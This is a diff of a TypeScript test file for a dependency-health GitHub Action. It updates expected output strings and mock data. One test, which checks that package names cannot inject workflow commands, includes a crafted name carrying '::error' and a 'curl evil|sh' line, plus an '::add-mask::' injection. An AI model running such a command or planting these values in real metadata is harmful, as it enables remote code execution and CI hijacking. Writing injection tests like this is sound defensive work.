@@ -55,11 +55,11 @@ async function runStep(inputs: Inputs) {
 it('the action fails the job if a dependency is at risk, and lists it in the job summary', async () => {
   const failOn = action.inputs['fail-on']?.default ?? '';
   const { code, output, summary } = await runStep({ failOn });
-  expect(output).toContain('1 of 1 dependencies are tracked projects; 1 at risk');
+  expect(output).toContain('1 of 1 dependencies are rated: 1 to act on');
   expect(code).toBe(exitCodes.findings[0]);
   expect(summary).toContain('ember-oldtimer');
   expect(summary).toContain('dormant');
-  expect(summary).toContain('1 of 1 dependencies are tracked projects; 1 at risk');
+  expect(summary).toContain('1 of 1 dependencies are rated: 1 to act on');
 });
 
 it('the action passes if no dependency reaches the level, or if no level is set', async () => {
@@ -86,8 +86,9 @@ it.each(['--url=http:HOST/package.json', '--help', '-h', '--json'])(
 it('the action does not run workflow commands in names of packages', async () => {
   const name = '::error file=src/auth.ts,line=1::Run: curl evil|sh';
   const row = { name, project: { id: 'a' }, health: 1, label: 'fair', alternatives: [] };
-  const summary = { mapped: '\n::add-mask::e', checked: 1, dependencies: 1 };
-  const data = { dependencies: [row], summary };
+  const verdicts = { act: 0, watch: 0, fine: 1, unknown: 0 };
+  const summary = { checked: '\n::add-mask::e', skipped: 0, verdicts };
+  const data = { dependencies: [row], summary, skipped: [] };
   const server = await listenWith(() => Response.json({ ok: true, data, meta: {} }));
   const { output } = await runStep({ failOn: '', server });
   // As the runner reads it: from `stop-commands` to its token, no line is a command.
